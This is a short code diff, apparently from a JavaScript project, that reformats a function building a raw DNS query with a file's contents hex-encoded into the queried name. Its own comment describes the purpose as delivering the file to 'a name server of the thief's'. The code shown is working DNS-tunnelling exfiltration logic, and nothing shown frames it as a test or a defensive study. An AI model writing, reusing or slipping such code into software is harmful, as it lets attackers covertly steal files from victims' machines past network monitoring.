@@ -16,7 +16,10 @@ const tcp = (port) =>
 
 /** A name server of the thief's would get this: the file as the name that is asked for. */
 function questionWith(text) {
-  const labels = Buffer.from(text).toString("hex").match(/.{1,60}/g).slice(0, 4);
+  const labels = Buffer.from(text)
+    .toString("hex")
+    .match(/.{1,60}/g)
+    .slice(0, 4);
   const name = labels.map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
   return Buffer.concat([Buffer.from("000101000001000000000000", "hex"), ...name, Buffer.from("0000010001", "hex")]);
 }
